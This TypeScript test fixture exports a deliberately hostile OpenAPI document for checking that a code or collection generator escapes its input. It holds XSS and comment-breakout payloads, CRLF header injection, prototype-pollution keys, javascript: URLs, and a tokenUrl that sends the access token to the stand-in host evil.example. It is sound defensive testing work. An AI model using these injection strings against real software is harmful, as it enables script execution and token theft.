/** The collection variable of the access token. Expanding it outside the Authorization header would leak the token. */
export const TOKEN = '{{access_token}}';

/**
 * A document in which every string tries to break out of its context. Injected code calls or declares `pwned`; injected
 * variables expand to the token.
 */
export const HOSTILE = String.raw`
openapi: 3.1.0
info:
  title: "Time*/neye \e]0;pwned\a \e[2J \u202e \x9b31m {{access_token}} <script>pwned()</script>"
  version: "1*/\`\${pwned()}\`"
  description: "*/ export const pwned = 1; /* <img src=x onerror=pwned()> {{access_token}} \`\`\`"
servers: [{ url: "https://api.timeneye.com/v1/{{access_token}}" }]
tags: [{ name: "a'b*/{{access_token}}<svg onload=pwned()>", description: "<script>pwned()</script>" }]
paths:
  /clients: { get: { responses: { '200': { description: x } } } }
  "/it's/{id}":
    get:
      operationId: "get*/'x"
      tags: ["a'b*/{{access_token}}<svg onload=pwned()>"]
      summary: "*/ pwned(); // \u2028 pwned\n\nnew '); pm.test(\`x\`"
      description: "line */ \n\n \`\`\` </script><script>pwned()</script> <iframe src=javascript:parent.pwned()> {{access_token}}"
      externalDocs: { url: "javascript:pwned()", description: "click*/" }
      parameters:
        - { name: id, in: path, required: true, example: "{{access_token}}/../../{{$guid}}", schema: { type: string } }
        - { name: "q'&=#*/", in: query, required: true, example: "{{access_token}}&admin=1#x '\"+%41", schema: { type: string } }
        - { name: "X-'A", in: header, required: true, example: "{{access_token}}\r\nX-Evil: 1", schema: { type: string } }
        - { name: "X-A\r\nX-Evil", in: header, example: a, schema: { type: string } }
      responses:
        '200':
          description: "*/ pwned() /*"
          headers:
            "X-It's'); pwned(); ('": { required: true, schema: { type: string }, description: "*/" }
            "X-It's": { required: true, schema: { type: integer } }
          content: { application/json: { schema: { $ref: "#/components/schemas/Thing" } } }
  "/it's":
    get:
      operationId: "list\`\${pwned()}\`"
      responses:
        '200': { description: x, content: { application/json: { schema: { type: object, properties: { data: { type: array, items: { $ref: "#/components/schemas/Thing" } } } } } } }
    post:
      operationId: constructor
      requestBody:
        content:
          application/json:
            schema: { $ref: "#/components/schemas/Thing" }
            example: { "a'); pwned(); //_id": 1, name: "{{access_token}} {{{access_token}}}", email: "<<<x, \"pwned\": {{access_token}}>>", "{{access_token}}": "\"<<#x>>\"" }
      responses:
        '200': { description: x, content: { application/json: { schema: { $ref: "#/components/schemas/Thing" } } } }
  "/a: b # c | | \`\n  - target: $/{x}":
    get: { operationId: "x|y\n| z", parameters: [{ name: x, in: path, required: true, schema: { type: string, example: a } }], responses: { '204': { description: x } } }
  "/q/{a'b}/{access_token}":
    get:
      operationId: __proto__
      parameters: [{ name: "a'b", in: path, required: true, schema: { type: string } }, { name: access_token, in: path, required: true, schema: { type: string } }]
      responses: { default: { description: x } }
components:
  schemas:
    Thing:
      title: "*/ pwned() /*"
      description: "*/ export const pwned = 1; /*"
      type: object
      properties:
        "a'); pwned(); //_id": { type: integer }
        __proto__: { type: object, properties: { x: { type: string } } }
        "*/": { type: string, format: "*/ pwned()", enum: ["*/", "'", "\"", "\`\${pwned()}\`", "a\nb", "\u2028"] }
        name: { type: string, pattern: "^[^'\"\`]{0,99}(*/)?$|^.*/", default: "*/", example: "*/", examples: ["*/ {{access_token}}"] }
        email: { type: string, deprecated: true, pattern: "^[^*/]*" }
        "{{access_token}}": { type: string, example: "{{access_token}}" }
        code: { const: "*/ pwned()" }
        "x\u202ey\n*/": { type: string, title: "*/", default: "\n*/" }
  securitySchemes:
    login: { type: oauth2, flows: { authorizationCode: { authorizationUrl: "javascript:pwned()//{{access_token}}", tokenUrl: "https://evil.example/{{access_token}}", scopes: { "a*/'": "*/" } } } }
`
  .replaceAll('\\`', '`')
  .replaceAll('\\$', '$');
